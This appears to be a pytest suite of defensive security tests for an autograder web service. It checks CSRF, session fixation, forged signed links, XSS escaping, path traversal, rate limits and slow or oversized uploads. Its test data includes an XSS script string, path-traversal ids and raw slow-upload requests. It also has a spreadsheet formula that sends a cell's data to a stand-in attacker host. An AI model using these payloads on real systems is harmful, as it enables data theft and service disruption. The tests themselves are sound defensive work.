"""Attacks on the service: forged forms, planted sessions, hostile names, too much and too slow."""

import csv
import select
import socket
import time

import msgspec
import pytest
import sqlalchemy as sa
from serving import NOTEBOOK, Browser, a_result, attempts

from autograder.service.database.tables import Person, Visit
from autograder.service.moments import now
from autograder.service.people.links import Keys, Link
from autograder.service.people.members import instructor_token, token_of
from autograder.service.queue.finish import finish
from autograder.service.queue.lease import claim
from autograder.service.web import arriving
from autograder.service.web.rates import Rate, Rates

pytestmark = pytest.mark.processes

SCRIPT = "<script>alert(1)</script>"


# -- forms of other sites -----------------------------------------------------------------


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Origin": "http://127.0.0.1.evil.example"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
    ],
)
def test_a_form_of_another_site_is_refused(ada, site, headers):
    """Even with the right token, a form that does not come from our own page does nothing."""
    answer = ada.send(
        "/work/powers/attempts", files={"notebook": ("x.ipynb", NOTEBOOK)}, headers=headers
    )
    assert answer.status_code == 403
    assert attempts(site.engine.database) == []


@pytest.mark.parametrize("token", ["", "x", "é", "0" * 64])
def test_a_form_without_its_token_is_refused(ada, token):
    """A token is wrong, missing or of another visit."""
    assert ada.send("/leave", csrf=token).status_code == 403
    assert ada.get("/").status_code == 200


def test_a_token_of_another_visit_is_refused(ada, site):
    """What Ben's forms bring back is of no use for Ada's."""
    ben = Browser(site).enter("ben")
    assert ada.send("/leave", csrf=ben.csrf).status_code == 403


def test_nobody_is_let_in_by_another_site(site):
    """A hostile page cannot make a browser enter as its own author."""
    person = "ben"
    token = site.keys.token(Link(person, 1))
    answer = Browser(site).send(f"/enter/{token}", headers={"Origin": "https://evil.example"})
    assert answer.status_code == 403


# -- sessions -----------------------------------------------------------------------------


def test_a_planted_session_is_not_taken_over(site):
    """Entering makes a new secret; one that was there before is worth nothing."""
    browser = Browser(site)
    browser.client.cookies.set("backgrade", "planted", domain="127.0.0.1")
    browser.enter("ada")
    assert browser.client.cookies.get("backgrade", domain="127.0.0.1") != "planted"
    planted = Browser(site)
    planted.client.cookies.set("backgrade", "planted")
    assert planted.get("/").status_code == 401


def test_entering_again_ends_the_earlier_visit(site):
    """The secret of before is not valid any more."""
    browser = Browser(site).enter("ada")
    before = browser.client.cookies["backgrade"]
    browser.enter("ben")
    old = Browser(site)
    old.client.cookies.set("backgrade", before)
    assert old.get("/").status_code == 401


def test_leaving_ends_the_visit(ada, site):
    """The secret is not valid any more, wherever it is kept."""
    secret = ada.client.cookies["backgrade"]
    assert ada.send("/leave").status_code == 200
    again = Browser(site)
    again.client.cookies.set("backgrade", secret)
    assert again.get("/").status_code == 401


def test_the_database_holds_no_secret_of_a_visit(ada, site):
    """Who reads a copy of the database cannot enter with it."""
    with site.engine.database.reading() as session:
        stored = session.scalars(sa.select(Visit.token_sha256)).all()
    assert ada.client.cookies["backgrade"] not in stored


def test_cookies_are_out_of_reach(site):
    """No script reads the cookie, and no other site's form brings it; behind HTTPS it is Secure."""
    token = site.keys.token(Link("ben", 1))
    cookie = Browser(site).send(f"/enter/{token}").headers["set-cookie"].lower()
    assert "httponly" in cookie
    assert "samesite=lax" in cookie
    assert msgspec.structs.replace(site.address, url="https://x.example").cookie.startswith(
        "__Host"
    )


# -- links --------------------------------------------------------------------------------


def test_links_that_we_did_not_sign(site):
    """A changed, cut or otherwise signed link is not valid, nor one with an old number."""
    good = site.keys.token(Link("ada", 1))
    payload, signature = good.split(".")
    forged = [
        Keys(b"another secret").token(Link("ada", 1)),
        site.keys.token(Link("ada", 2)),
        site.keys.token(Link("nobody", 1)),
        f"{payload}.",
        f"{payload}.{signature[:-2]}",
        f"{site.keys.token(Link('ida', 1)).split('.')[0]}.{signature}",
        good * 100,
        "%00",
    ]
    browser = Browser(site)
    for token in forged:
        assert browser.get(f"/enter/{token}").status_code == 404, token
        assert browser.send(f"/enter/{token}").status_code == 404, token
    assert browser.get(f"/enter/{good}").status_code == 200


def test_the_instructors_link_works_once(site):
    """Looking at it does not use it up; entering does, and a new one replaces an old one."""
    first = instructor_token(site.engine.database, site.keys)
    second = instructor_token(site.engine.database, site.keys)
    browser = Browser(site)
    assert browser.get(f"/enter/{first}").status_code == 404
    assert browser.get(f"/enter/{second}").status_code == 200
    assert browser.send(f"/enter/{second}").is_redirect
    assert browser.get("/people").status_code == 200
    assert Browser(site).send(f"/enter/{second}").status_code == 404


def test_trying_links_is_slow(site):
    """After a few dozen wrong links an address has to wait."""
    site.keys_tried._buckets.clear()
    browser = Browser(site)
    statuses = [browser.get(f"/enter/x{number}").status_code for number in range(40)]
    site.keys_tried._buckets.clear()
    assert statuses.count(404) in range(30, 35)
    assert statuses[-1] == 429


# -- what browsers are told -----------------------------------------------------------------


def test_every_answer_has_the_headers(ada, ida, site):
    """Pages, errors and files allow no script and no frame, and are kept nowhere."""
    for browser, path in ((ada, "/"), (ada, "/nothing"), (Browser(site), "/"), (ida, "/people")):
        headers = browser.get(path).headers
        policy = headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "frame-ancestors 'none'" in policy
        assert "unsafe" not in policy
        assert headers["x-frame-options"] == "DENY"
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["cache-control"] == "no-store"


def test_another_host_is_not_served(site):
    """A name that an attacker lets point at this machine gets nothing."""
    answer = Browser(site).client.get("/healthz", headers={"Host": "evil.example"})
    assert answer.status_code == 400


# -- hostile text -------------------------------------------------------------------------


def test_hostile_text_is_never_html(empty, as_notebook, ida):
    """Names, files, code and messages of students are text, on every page that shows them."""
    name = "O'Brien & co"
    assert ida.send("/people", name=name, full_name=SCRIPT, role="student").is_redirect
    student = Browser(empty).enter(name)
    code = f"square = {SCRIPT!r}  # </code></pre>{SCRIPT}"
    assert student.hand_in("powers", as_notebook([code]).encode()).is_redirect
    claimed = claim(empty.engine.database, "w", now())
    result = a_result(student=name)
    exercise = msgspec.structs.replace(result.exercises[0], diagnosis=SCRIPT, title=SCRIPT)
    hostile = msgspec.structs.replace(
        result, exercises=[exercise], notes=[SCRIPT], for_instructor=[SCRIPT]
    )
    finish(empty.engine.database, claimed.id, hostile, now())
    own = f"/class/powers/student/{name}"
    assert ida.send(f"{own}/1/aside", why=SCRIPT).is_redirect
    pages = ["/people", f"/people/{name}", "/class/powers", own, f"{own}/1", "/log"]
    shown = [ida.get(path) for path in pages]
    shown += [student.get(path) for path in ("/", "/work/powers", "/work/powers/attempts/1")]
    shown += [ida.get(f"/class/powers?q={SCRIPT}"), student.get(f"/{SCRIPT}")]
    for page in shown:
        assert "<script" not in page.text, page.url
    assert "&lt;/code&gt;&lt;/pre&gt;" in shown[4].text


@pytest.mark.parametrize("name", ["", "a/b", "..", ".hidden", "a\x00b", "a" * 101, "\u202eevil"])
def test_an_id_that_is_no_folder_is_refused(ida, name):
    """Ids become names of folders, so they cannot lead anywhere else."""
    answer = ida.send("/people", name=name, role="student")
    assert answer.status_code == 422
    assert "cannot be an id" in answer.text


def test_the_log_knows_who_did_what(ida, empty, as_notebook):
    """Every change that an instructor makes is there, with its reason."""
    ben = Browser(empty).enter("ben")
    ben.hand_in("powers", as_notebook(["square = 1"]).encode())
    ida.send("/class/powers/student/ben/1/aside", why="copied")
    ida.send("/class/powers/student/ben/1/aside", what="count")
    ida.send("/class/powers/student/ben/extension", until="2030-12-05T12:00")
    ida.send("/people", name="zoe", full_name="Zoe", role="assistant")
    ida.send("/people/zoe/role", role="student")
    ida.send("/people/zoe/link")
    page = ida.get("/log").text
    for what in ("set aside", "copied", "counts again", "extension given", "2030-12-05 12:00:00"):
        assert what in page
    for what in ("person added", "role changed", "link revoked", "ida"):
        assert what in page
    assert "5 December 2030, 12:00 CET" in ben.get("/").text


def test_nobody_takes_their_own_rights_away(ida):
    """The last instructor cannot lock everybody out by a slip."""
    assert ida.send("/people/ida/role", role="student").status_code == 422
    assert ida.send("/people/ida/remove").status_code == 422


def test_a_name_is_no_formula(ida):
    """A spreadsheet that opens everyone's links shows names, and calculates nothing."""
    formula = '=HYPERLINK("https://evil.example/?"&C2)'
    assert ida.send("/people", name="@eve", full_name=formula, role="student").is_redirect
    rows = list(csv.reader(ida.get("/people-links.csv").text.splitlines()))
    assert ["'@eve", f"'{formula}"] in [row[:2] for row in rows]
    assert ida.send("/people/@eve/remove").is_redirect


@pytest.mark.parametrize("number", ["1" + "0" * 30, "9" * 5000, "0", "-1", "²"])
def test_a_number_that_no_attempt_has(ada, ida, caplog, number):
    """Nobody has such an attempt; that is no error of ours, and fills no log."""
    assert ada.get(f"/work/powers/attempts/{number}").status_code == 404
    assert ada.get(f"/work/powers/attempts/{number}/files").status_code == 404
    assert ida.get(f"/class/powers/student/ada/{number}").status_code == 404
    assert not [record for record in caplog.records if record.levelname == "ERROR"]


# -- too much, too slow, cut off -----------------------------------------------------------


def test_an_upload_that_is_too_large(ada, site):
    """It is refused in words, whether or not it says how large it is, and nothing is kept."""
    large = b"x" * ((16 << 20) + (65 << 10))
    answer = ada.hand_in("powers", large)
    assert (answer.status_code, "At most 16 MiB" in answer.text) == (413, True)

    def in_parts():
        yield b'--x\r\nContent-Disposition: form-data; name="notebook"; filename="x.ipynb"\r\n\r\n'
        for start in range(0, len(large), 1 << 16):
            yield large[start : start + (1 << 16)]

    headers = {"Content-Type": "multipart/form-data; boundary=x", "Origin": site.address.url}
    answer = ada.client.post("/work/powers/attempts", content=in_parts(), headers=headers)
    assert answer.status_code == 413
    assert attempts(site.engine.database) == []


def test_a_form_that_is_too_large(ida):
    """A form without files is small."""
    assert ida.send("/people", name="x" * (70 << 10), role="student").status_code == 413


@pytest.mark.parametrize(
    "body", [b"", b"nonsense", b"--x\r\n\r\n", b"--x\r\nA: b\r\n\r\nc\r\n--x--"]
)
def test_a_broken_form_is_refused(ada, site, body):
    """What is no form gives a page in words, and no error of ours."""
    headers = {"Content-Type": "multipart/form-data; boundary=x", "Origin": site.address.url}
    answer = ada.client.post("/work/powers/attempts", content=body, headers=headers)
    assert answer.status_code in {400, 403}
    assert "That did not work" in answer.text


def raw(site, *parts, wait=0.0):
    """Send bytes to the server, wait, and return what it answers until it closes or is silent."""
    with socket.create_connection(("127.0.0.1", int(site.address.url.rpartition(":")[2]))) as own:
        for part in parts:
            own.sendall(part)
            time.sleep(wait)
            if select.select([own], [], [], 0)[0]:
                break
        own.settimeout(5)
        try:
            return own.recv(1 << 16)
        except TimeoutError:
            return b""


def head_of(browser, length):
    """Return the head of an upload."""
    cookie = browser.client.cookies["backgrade"]
    return (
        f"POST /work/powers/attempts HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: backgrade={cookie}\r\n"
        f"Content-Type: multipart/form-data; boundary=x\r\nContent-Length: {length}\r\n\r\n"
    ).encode()


def test_a_slow_upload_is_cut(ada, site, monkeypatch):
    """Who sends too slowly is answered, and does not hold up the others."""
    monkeypatch.setattr(arriving, "_CHUNK_S", 0.3)
    answer = raw(site, head_of(ada, 1000), b"--x\r\n")
    assert answer.startswith(b"HTTP/1.1 408")
    monkeypatch.setattr(arriving, "_CHUNK_S", 0.5)
    trickle = raw(site, head_of(ada, 1000), *([b"-"] * 4), wait=0.3)
    assert trickle.startswith(b"HTTP/1.1 408")


def test_an_upload_that_is_cut_off_leaves_nothing(ada, site):
    """A connection that ends within a file is no attempt, and the service goes on."""
    with socket.create_connection(("127.0.0.1", int(site.address.url.rpartition(":")[2]))) as own:
        own.sendall(head_of(ada, 100_000) + b"--x\r\nContent-Disposition: form-data;")
    assert ada.get("/").status_code == 200
    assert attempts(site.engine.database) == []


def test_requests_are_limited_for_each_person(ada, site, monkeypatch):
    """Who asks too often waits; others do not."""
    monkeypatch.setattr(site, "people", Rates(Rate(per_s=0.01, at_once=5)))
    statuses = [ada.get("/log").status_code for _ in range(4)]
    statuses += [ada.send("/leave", csrf="").status_code for _ in range(7)]
    assert statuses == [404] * 4 + [403] * 5 + [429] * 2
    assert Browser(site).enter("ben").get("/").status_code == 200


def test_uploads_are_limited_for_each_person(ada, site, as_notebook):
    """Reading hostile files takes seconds: they are refused before they are read, also a program's.

    Other students are not held up.
    """
    statuses = [ada.hand_in("powers", b"no notebook").status_code for _ in range(12)]
    assert statuses[:10] == [422] * 10
    assert statuses[10:] == [429] * 2
    with site.engine.database.reading() as session:
        person = session.scalars(sa.select(Person).where(Person.name == "ada")).one()
    answer = Browser(site).client.post(
        "/api/work/powers/attempts",
        files={"notebook": ("powers.ipynb", NOTEBOOK)},
        headers={"Authorization": f"Bearer {token_of(site.keys, person)}"},
    )
    assert answer.status_code == 429
    assert (
        Browser(site)
        .enter("ben")
        .hand_in("powers", as_notebook(["square = 1"]).encode())
        .is_redirect
    )


# -- trouble of ours ----------------------------------------------------------------------


def test_a_database_that_goes_away_and_comes_back(ada, site, monkeypatch):
    """Students read that it is not their fault; afterwards everything goes on."""
    database = site.engine.database

    def gone(*_):
        raise sa.exc.OperationalError("SELECT", {}, Exception("server closed the connection"))

    sa.event.listen(database.engine, "before_cursor_execute", gone)
    try:
        answer = ada.get("/")
        ready = Browser(site).get("/readyz")
    finally:
        sa.event.remove(database.engine, "before_cursor_execute", gone)
    assert (answer.status_code, "not your fault" in answer.text) == (503, True)
    assert ready.status_code == 503
    assert ada.get("/").status_code == 200


def test_a_full_disk(ada, site, as_notebook):
    """The database cannot grow: the page says so in general words, and what is there stays."""
    ada.hand_in("powers", as_notebook(["square = 1"]).encode())
    with site.engine.database.writing() as session:
        pages = session.execute(sa.text("PRAGMA page_count")).scalar()
    large = as_notebook([f"square = {list(range(200_000))}"]).encode()

    def full(connection, *_):
        connection.execute(f"PRAGMA max_page_count={pages}")

    sa.event.listen(site.engine.database.engine, "checkout", full)
    try:
        answer = ada.hand_in("powers", large)
    finally:
        sa.event.remove(site.engine.database.engine, "checkout", full)
        site.engine.database.engine.dispose()
    assert (answer.status_code, "not your fault" in answer.text) == (503, True)
    assert len(attempts(site.engine.database)) == 1
    assert ada.hand_in("powers", large).is_redirect


def test_people_of_the_roster_are_students(site):
    """A roster gives nobody more rights, whatever it says."""
    with site.engine.database.reading() as session:
        roles = dict(session.execute(sa.select(Person.name, Person.role)).all())
    assert {roles[name] for name in ("ada", "ben", "李雷")} == {"student"}
